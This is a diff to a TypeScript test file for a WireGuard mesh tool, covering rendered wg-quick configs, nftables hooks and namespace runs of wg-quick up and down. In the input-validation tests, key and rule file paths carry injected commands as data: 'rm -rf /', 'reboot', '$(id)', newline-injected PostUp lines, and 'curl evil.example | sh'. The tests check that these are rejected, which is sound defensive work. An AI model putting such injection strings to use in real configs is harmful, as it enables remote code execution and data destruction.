@@ -2,7 +2,9 @@
  * Rendered wg-quick configs and nftables rules: their exact content for the
  * fixture, and that the real tools accept them: `wg-quick strip` and
  * `wg setconf` (on a wireguard-go interface in a namespace of our own), and
- * `nft -c -f` in a fresh network namespace. The tool checks are skipped,
+ * `nft -c -f` in a fresh network namespace, and `wg-quick up` / `down` of a
+ * generated config in a namespace: PreUp loads the node's table, PostDown
+ * removes it, a bad rule file stops the interface. The tool checks are skipped,
  * with the reason printed, where the tools, root or /dev/net/tun are missing.
  */
 import t from "tap";
@@ -12,7 +14,7 @@ import os from "node:os";
 import path from "node:path";
 import { compile } from "../../../src/engine.js";
 import { MeshTopology, planMesh, type MeshPlan } from "../../../src/runtime/mesh/plan.js";
-import { renderNft } from "../../../src/runtime/mesh/render-nft.js";
+import { nftTableName, renderNft } from "../../../src/runtime/mesh/render-nft.js";
 import { defaultRenderOptions, interfaceName, renderOptionsProblem, renderWgQuick } from "../../../src/runtime/mesh/render-wg.js";
 import { writePlan } from "../../../src/runtime/mesh/write-plan.js";
 import { MeshLab, netnsSupport, onPath } from "../../support/netns.js";
@@ -26,7 +28,7 @@ const at = (id: string) => p.nodes.findIndex((n) => n.id === id);
 const addr = (id: string) => p.nodes[at(id)]!.address;
 
 t.test("the wg-quick config of the scheduler", async (t) => {
-  t.same(opts, { interface: "lab", keyFile: "/etc/wireguard/lab.key" });
+  t.same(opts, { interface: "lab", keyFile: "/etc/wireguard/lab.key", nftFile: "/etc/wireguard/lab.nft" });
   const text = renderWgQuick(p, topo, at("s1"), opts);
   const body = text.split("\n").filter((l) => !l.startsWith("# swarm-policy") && !l.startsWith("# policy version"));
   const peer = (id: string, endpoint?: string) => ["", "[Peer]", `# ${id}`, `PublicKey = ${keyFor(id).publicKey}`, `AllowedIPs = ${addr(id)}/32`, ...(endpoint ? [`Endpoint = ${endpoint}`] : []), "PersistentKeepalive = 25"];
@@ -34,7 +36,9 @@ t.test("the wg-quick config of the scheduler", async (t) => {
     "[Interface]",
     "Address = 100.64.0.10/10",
     "ListenPort = 51820",
+    "PreUp = nft -f /etc/wireguard/lab.nft",
     "PostUp = wg set %i private-key /etc/wireguard/lab.key",
+    "PostDown = nft add table inet swarm_policy_lab \\; delete table inet swarm_policy_lab",
     ...peer("d1"),
     ...peer("g1", "198.18.0.13:51820"),
     ...peer("w1", "198.18.0.10:51820"),
@@ -42,6 +46,34 @@ t.test("the wg-quick config of the scheduler", async (t) => {
     "",
   ]);
   t.notMatch(text, /PrivateKey/, "the plan never holds a private key");
+});
+
+t.test("the config loads the node's rules: PreUp the file given, PostDown the table the file names", async (t) => {
+  // An interface whose name nft cannot take as is: the table is swarm_policy_wg_prod_1.
+  const o = defaultRenderOptions(p, { interface: "wg-prod.1", keyFile: "/srv/wg/k", nftFile: "/srv/wg/rules.nft" });
+  t.same(o, { interface: "wg-prod.1", keyFile: "/srv/wg/k", nftFile: "/srv/wg/rules.nft" });
+  const conf = renderWgQuick(p, topo, at("w1"), o);
+  const table = /^table inet (\w+) \{$/m.exec(renderNft(p, topo, at("w1"), o))![1]!;
+  t.equal(table, "swarm_policy_wg_prod_1");
+  const hooks = conf.split("\n").filter((l) => /^(Pre|Post)(Up|Down) = /.test(l));
+  t.same(hooks, [
+    "PreUp = nft -f /srv/wg/rules.nft",
+    "PostUp = wg set %i private-key /srv/wg/k",
+    // `add` first: deleting a table that is gone fails, and wg-quick down fails with its PostDown.
+    `PostDown = nft add table inet ${table} \\; delete table inet ${table}`,
+  ]);
+  t.match(conf, /^\[Interface\]\n(?:[^[].*\n)*PreUp = /m, "in [Interface], before the first peer");
+  t.equal(defaultRenderOptions(p, { interface: "wg7" }).nftFile, "/etc/wireguard/wg7.nft", "default next to the key file");
+  // Omitted by a library caller: the default hook, not none.
+  t.match(renderWgQuick(p, topo, at("w1"), { interface: "lab", keyFile: "/k" }), "\nPreUp = nft -f /etc/wireguard/lab.nft\n");
+});
+
+t.test("nftFile null: no hook, the rules are the operator's to load", async (t) => {
+  const o = defaultRenderOptions(p, { nftFile: null });
+  t.equal(o.nftFile, null);
+  const conf = renderWgQuick(p, topo, at("s1"), o);
+  t.notMatch(conf, /PreUp|PostDown|nft/);
+  t.match(conf, "\nPostUp = wg set %i private-key /etc/wireguard/lab.key\n");
 });
 
 t.test("AllowedIPs is one host address, never a range", async (t) => {
@@ -105,15 +137,22 @@ t.test("interface names and key file paths", async (t) => {
   t.match(renderOptionsProblem({ interface: "wg0", keyFile: "/k; rm -rf /" }), /absolute path/);
   t.match(renderOptionsProblem({ interface: "wg0", keyFile: "relative.key" }), /absolute path/);
   t.match(renderOptionsProblem({ interface: "wg0", keyFile: "/etc/../k" }), /absolute path/);
+  t.equal(renderOptionsProblem({ interface: "wg0", keyFile: "/k", nftFile: "/etc/wireguard/wg0.nft" }), null);
+  t.equal(renderOptionsProblem({ interface: "wg0", keyFile: "/k", nftFile: null }), null);
+  for (const bad of ["/etc/wire guard/wg0.nft", "/x.nft; reboot", "x.nft", "", "/etc/../x.nft", "/x.nft#", "/x%i.nft", "/x.nft\nPostUp = id", "/$(id).nft", "/`id`"]) {
+    t.match(renderOptionsProblem({ interface: "wg0", keyFile: "/k", nftFile: bad }), /^nft file .* must be an absolute path .*\(it is run by PreUp\)$/, JSON.stringify(bad));
+  }
 });
 
 t.test("the library refuses options the CLI refuses: PostUp runs the key file path in a shell", async (t) => {
   const evil = { interface: "lab", keyFile: "/k\nPostUp = curl evil.example | sh" };
   t.throws(() => renderWgQuick(p, topo, at("s1"), evil), /absolute path/);
   t.throws(() => renderWgQuick(p, topo, at("s1"), { interface: "../../x", keyFile: "/k" }), /must be 1-15/);
+  t.throws(() => renderWgQuick(p, topo, at("s1"), { interface: "lab", keyFile: "/k", nftFile: "/r.nft; curl evil.example | sh" }), /nft file/);
   const dir = mkdtempSync(path.join(os.tmpdir(), "sp-render-opts-"));
   t.teardown(() => rmSync(dir, { recursive: true, force: true }));
   await t.rejects(writePlan(p, dir, { interface: "../../escape", keyFile: "/k" }), /must be 1-15/);
+  await t.rejects(writePlan(p, dir, { interface: "lab", keyFile: "/k", nftFile: "/r .nft" }), /nft file/);
   t.same(readdirSync(dir), [], "nothing written");
 });
 
@@ -181,4 +220,56 @@ t.test("a re-plan applied with `wg syncconf` as docs/mesh.md says keeps the node
   const want = MeshTopology.of(q).peersOf(q.nodes.findIndex((n) => n.id === "s1")).map((j) => q.nodes[j]!.publicKey);
   t.same(wg("peers").split("\n").sort(), want.sort(), "the peers are the re-plan's: w2 is gone");
   t.equal(wg("listen-port"), "51820");
+});
+
+t.test("`wg-quick up` with a generated config loads the node's table, `down` removes it, a bad rule file stops it", { skip: noLab || (onPath("wg-quick") ? false : "wg-quick is missing") }, async (t) => {
+  // wg-quick itself, in a namespace of our own: it starts wireguard-go (no kernel module needed), runs
+  // the hooks through bash. The plan's interface would be "lab"; lab interfaces need machine-unique
+  // names (wireguard-go's sockets share /var/run/wireguard), so the config is rendered for this one.
+  const lab = await MeshLab.create(["cfg"]);
+  t.teardown(() => lab.cleanup());
+  const iface = lab.node("cfg").iface;
+  const o = { interface: iface, keyFile: path.join(lab.workDir, "cfg.key"), nftFile: path.join(lab.workDir, "cfg.nft") };
+  t.equal(renderOptionsProblem(o), null, `the lab's paths are usable: ${lab.workDir}`);
+  const table = nftTableName(iface);
+  writeFileSync(o.keyFile, `${keyFor("s1").privateText}\n`, { mode: 0o600 });
+  const rules = renderNft(p, topo, at("s1"), o);
+  writeFileSync(o.nftFile, rules);
+  const conf = path.join(lab.workDir, `${iface}.conf`);
+  writeFileSync(conf, renderWgQuick(p, topo, at("s1"), o), { mode: 0o600 });
+  const exec = (...argv: string[]) => lab.exec("cfg", argv, { timeoutMs: 20_000 });
+  const tables = async () => (await exec("nft", "list", "tables")).stdout.trim();
+  const linkExists = async () => (await exec("ip", "link", "show", "dev", iface)).code === 0;
+
+  const up = await exec("wg-quick", "up", conf);
+  t.equal(up.code, 0, `wg-quick up: ${up.stderr}`);
+  t.ok(up.stderr.indexOf(`[#] nft -f ${o.nftFile}`) >= 0, "PreUp ran");
+  t.ok(up.stderr.indexOf(`[#] nft -f ${o.nftFile}`) < up.stderr.indexOf(`[#] ip link add ${iface}`), "before the interface was made");
+  const listed = await exec("nft", "list", "table", "inet", table);
+  t.equal(listed.code, 0, `the table is loaded: ${listed.stderr}`);
+  t.match(listed.stdout, `iifname != "${iface}" accept`);
+  t.match(listed.stdout, /tcp dport \{ 7000, 7001 \} accept/, "with the node's port rules");
+  t.equal((await exec("wg", "show", iface, "public-key")).stdout.trim(), keyFor("s1").publicKey, "PostUp set the key");
+
+  const down = await exec("wg-quick", "down", conf);
+  t.equal(down.code, 0, `wg-quick down: ${down.stderr}`);
+  t.equal(await tables(), "", "PostDown removed the table");
+  t.notOk(await linkExists());
+
+  // Someone removed the table meanwhile: down still succeeds (a plain `delete table` would fail it).
+  t.equal((await exec("wg-quick", "up", conf)).code, 0);
+  t.equal((await exec("nft", "delete", "table", "inet", table)).code, 0);
+  const downAgain = await exec("wg-quick", "down", conf);
+  t.equal(downAgain.code, 0, `wg-quick down with the table gone: ${downAgain.stderr}`);
+  t.notOk(await linkExists());
+
+  // Fail closed: a rule file nft refuses, or none, and there is no interface and no table.
+  for (const [name, content] of [["a bad rule file", "this is not nftables\n"], ["no rule file", null]] as const) {
+    rmSync(o.nftFile, { force: true });
+    if (content !== null) writeFileSync(o.nftFile, content);
+    const failed = await exec("wg-quick", "up", conf);
+    t.not(failed.code, 0, `${name}: wg-quick up fails`);
+    t.notOk(await linkExists(), `${name}: no interface`);
+    t.equal(await tables(), "", `${name}: no table`);
+  }
 });
